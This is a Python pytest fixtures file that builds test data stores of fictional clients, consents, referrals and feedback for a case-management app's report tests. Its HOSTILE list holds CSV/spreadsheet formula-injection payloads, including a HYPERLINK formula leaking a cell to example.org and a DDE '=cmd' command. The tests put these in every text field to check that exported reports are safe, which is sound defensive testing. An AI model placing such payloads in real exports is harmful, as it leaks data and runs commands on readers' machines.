"""Office stores of fictional people for the report tests.

``central`` adds what demo.seed does not make (referrals, outcomes, feedback, band overrides);
``hostile_store`` holds one of each record with formula-like text in every text field.
"""

from __future__ import annotations

import itertools
import random
from datetime import UTC, date, datetime

import pytest

from pace_desktop.demo import seed
from pace_desktop.privacy_notice import current_notice
from pace_desktop.records.models import (
    CaptureMethod,
    ChecklistOverride,
    ChecklistRecord,
    Client,
    Consent,
    Event,
    EventType,
    Feedback,
    Intervention,
    InterventionStatus,
    Outcome,
    OutcomeStatus,
)
from pace_desktop.reference import partner_codes
from pace_desktop.registration import build_consents, with_override
from pace_desktop.reports.columns import text_limit
from pace_desktop.store.store import Store

PASSPHRASE = "correct horse battery staple"
CLIENTS = 300
EVENTS = 6


def add_follow_ups(store: Store, rng: random.Random) -> dict[str, int]:
    """Interventions (some referred), outcomes, feedback and overrides for some clients.

    A referral to a partner comes with the person's yes to sharing with it (the rule
    ``referral_without_consent``): demo.seed asks about DWP only, so other partners' are added.
    """
    made = {"interventions": 0, "referred": 0, "outcomes": 0, "feedback": 0, "overrides": 0}
    partners = list(partner_codes())
    interventions, outcomes, feedback, sharing = [], [], [], []
    asked = {(r[0], r[1]) for r in store.db.query("SELECT parent_id, purpose FROM consents WHERE active = 1")}
    with store.transaction():
        for client in store.clients.all():
            roll = rng.random()
            if roll < 0.5:
                status = rng.choice(list(InterventionStatus))
                partner = rng.choice(partners) if rng.random() < 0.8 else None
                if partner not in (None, "SDS") and (str(client.id), f"share_{partner}") not in asked:
                    sharing += build_consents(
                        {f"share_{partner}": True},
                        how=CaptureMethod.with_adviser,
                        by=store.actor,
                        client_id=client.id,
                    )
                    asked.add((str(client.id), f"share_{partner}"))
                interventions.append(
                    Intervention(
                        client_id=client.id,
                        service="employability_advice",
                        partner=partner,
                        date=date(2026, 3, 2),
                        status=status,
                        minutes=rng.randrange(0, 90),
                    )
                )
                made["interventions"] += 1
                made["referred"] += status == InterventionStatus.referred
            if roll < 0.3:
                outcomes.append(
                    Outcome(
                        client_id=client.id,
                        date=date(2026, 6, 1),
                        status=rng.choice(list(OutcomeStatus)),
                    )
                )
                made["outcomes"] += 1
            if roll < 0.2:
                feedback.append(
                    Feedback(
                        client_id=client.id,
                        rating=rng.randrange(1, 6),
                        comment="Helpful, thank you.",
                    )
                )
                made["feedback"] += 1
        store.consents.insert_many(sharing)
        store.interventions.insert_many(interventions)
        store.outcomes.insert_many(outcomes)
        store.feedback.insert_many(feedback)
    for record in list(store.checklists.all())[:20]:
        band = "high" if record.band != "high" else "low"
        store.checklists.update(with_override(record, band, "Adviser's judgement", "Office Staff"))
        made["overrides"] += 1
    return made


@pytest.fixture(scope="module")
def central(tmp_path_factory):
    """(store, counts): an office store with demo clients and follow-ups, for the module."""
    folder = tmp_path_factory.mktemp("central")
    store = Store.create(
        folder / "central.db",
        adviser="Office Staff",
        passphrase=PASSPHRASE,
        device_name="Central",
        kind="office",
    )
    seed(store, events=EVENTS, clients=CLIENTS)
    made = add_follow_ups(store, random.Random(7))
    yield store, made
    store.close()


HOSTILE = [
    '=HYPERLINK("http://example.org/?leak="&A2,"Click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "#N/A",
    "=cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "\r=2+2",
]


def hostile_values(model, extra: dict | None = None) -> dict:
    """A value from HOSTILE for every free-text field of ``model``, cut to the field's cap."""
    cycle = itertools.cycle(HOSTILE)
    values = {}
    for name, field in model.model_fields.items():
        cap = text_limit(field)
        if cap:
            values[name] = next(cycle)[:cap]
    values.update(extra or {})
    return values


@pytest.fixture()
def hostile_store(tmp_path):
    """An office store holding one of each record, every text field formula-like."""
    store = Store.create(
        tmp_path / "central.db", adviser="Office Staff", passphrase=PASSPHRASE, kind="office"
    )
    notice = current_notice()
    now = datetime.now(UTC)
    event = Event(
        **hostile_values(
            Event,
            {
                "council_area": "S12000049",
                "event_date": date(2026, 3, 4),
                "event_type": EventType.drop_in,
                "number_affected": 40,
            },
        )
    )
    client = Client(
        **hostile_values(
            Client,
            {"event_id": event.id, "date_of_birth": date(1980, 5, 6), "services_wanted": ["money"]},
        )
    )
    consents = [
        Consent(
            **hostile_values(
                Consent,
                {
                    "client_id": client.id,
                    "purpose": purpose,
                    "granted": True,
                    "notice_version": notice.version,
                    "notice_sha256": notice.sha256,
                    "captured_at": now,
                    "captured_how": CaptureMethod.with_adviser,
                    **({} if purpose == "contact_followup" else {"withdrawn_by": None}),
                    "withdrawn_at": now if purpose == "contact_followup" else None,
                },
            )
        )
        # share_DWP: the referral below needs it (records.rules, referral_without_consent).
        for purpose in ("pace_support", "anonymised_statistics", "contact_followup", "share_DWP")
    ]
    override = ChecklistOverride(**hostile_values(ChecklistOverride, {"band": "high"}))
    checklist = ChecklistRecord(
        **hostile_values(
            ChecklistRecord,
            {
                "client_id": client.id,
                "checklist_version": "ltu-1",
                "score": 3,
                "band": "low",
                "answers": {"q1_qualification": "=1+1"},
                "explanation": ["=SUM(1,2)"],
                "override": override,
            },
        )
    )
    follow_ups = [
        Intervention(
            **hostile_values(
                Intervention,
                {
                    "client_id": client.id,
                    "service": "money",
                    "partner": "DWP",
                    "date": date(2026, 3, 5),
                    "status": InterventionStatus.referred,
                },
            )
        ),
        Outcome(
            **hostile_values(
                Outcome,
                {"client_id": client.id, "date": date(2026, 6, 1), "status": OutcomeStatus.in_work},
            )
        ),
        Feedback(**hostile_values(Feedback, {"client_id": client.id, "rating": 4})),
    ]
    with store.transaction():
        store.events.insert_many([event])
        store.clients.insert_many([client])
        store.consents.insert_many(consents)
        store.checklists.insert_many([checklist])
        store.interventions.insert_many(follow_ups[:1])
        store.outcomes.insert_many(follow_ups[1:2])
        store.feedback.insert_many(follow_ups[2:])
    records = {
        "Events": [event],
        "Clients": [client],
        "Consents": consents,
        "Checklists": [checklist],
        "Interventions": follow_ups[:1],
        "Outcomes": follow_ups[1:2],
        "Feedback": follow_ups[2:],
    }
    yield store, records
    store.close()
